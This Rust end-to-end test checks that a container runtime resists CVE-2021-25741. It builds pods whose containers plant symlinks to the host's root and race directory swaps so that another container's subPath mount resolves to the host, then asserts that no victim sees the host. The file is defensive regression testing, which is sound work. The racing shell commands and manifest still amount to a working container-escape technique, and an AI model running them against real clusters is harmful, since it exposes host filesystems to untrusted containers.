//! CVE-2021-25741: a container replaces the directory of another container's subPath with a link to the host's root.

use e2e::shared;

/// The number of starts that must see their own directory. With a vulnerable kubelet, which passes a path to the
/// runtime, one of a few starts sees the host.
const STARTS: usize = 24;

#[test]
fn swapped_subpath_never_mounts_the_hosts_root() {
    let s = shared("attack-subpath");
    let swap = |way: &str| {
        format!(
            "cd /v; while :; do for n in 0 1 2 3 4 5 6 7; do {way} done; done",
            way =
                way.replace("SPARE", "spare$n").replace("LINK", "link$n").replace("DATA", "data$n")
        )
    };
    // One container replaces the directory by the link, the other one the link by the directory.
    let there = swap("busybox mv -T DATA SPARE; busybox mv -T LINK DATA;");
    let back = swap("busybox mv -T DATA LINK; busybox mv -T SPARE DATA;");
    let plant = "cd /v; for n in 0 1 2 3 4 5 6 7; do mkdir data$n; touch data$n/own; busybox ln -s / link$n; done";
    let victims: String = (0..8)
        .map(|n| {
            format!(
                r#"
  - name: victim{n}
    image: box:1
    command: [sh, -c, "test -e /part/own && echo own >>/seen/seen; test -e /part/proc/1 && echo host >>/seen/seen; true"]
    volumeMounts: [{{name: v, mountPath: /part, subPath: data{n}}}, {{name: seen, mountPath: /seen}}]"#
            )
        })
        .collect();
    let manifest = |name: usize| {
        format!(
            r#"
apiVersion: v1
kind: Pod
metadata: {{name: attack{name}}}
spec:
  terminationGracePeriodSeconds: 0
  volumes: [{{name: v, emptyDir: {{}}}}, {{name: seen, emptyDir: {{}}}}]
  initContainers:
  - {{name: plant, image: box:1, command: [sh, -c, "{plant}"], volumeMounts: [{{name: v, mountPath: /v}}]}}
  containers:
  - {{name: there, image: box:1, command: [sh, -c, "{there}"], volumeMounts: [{{name: v, mountPath: /v}}]}}
  - {{name: back, image: box:1, command: [sh, -c, "{back}"], volumeMounts: [{{name: v, mountPath: /v}}]}}
  - {{name: witness, image: box:1, volumeMounts: [{{name: seen, mountPath: /seen}}]}}{victims}
"#
        )
    };
    let (mut round, mut own) = (0, 0);
    while own < STARTS {
        assert!(round < 200, "{own} victims started in {round} rounds");
        s.apply(&manifest(round));
        s.until(
            &format!("get pod attack{round} -o jsonpath={{.status.containerStatuses[*]}}"),
            |statuses| {
                // Half of the victims have exited once, or their mounts failed.
                statuses.matches("\"exitCode\":0").count()
                    + statuses.matches("failed to prepare subPath").count()
                    >= 4
            },
        );
        let pod = format!("attack{round}");
        let cat = "cat /seen/seen 2>/dev/null || true";
        let seen = s.kubectl_with(&["exec", &pod, "-c", "witness", "--", "sh", "-c", cat], "").ok();
        assert!(!seen.contains("host"), "round {round}: a container sees the host's root: {seen}");
        own += seen.matches("own").count();
        s.kubectl(&format!("delete pod attack{round} --grace-period=0 --wait=false")).ok();
        round += 1;
    }
    eprintln!("{round} rounds, {own} starts saw their own directory, none the host's root");
}
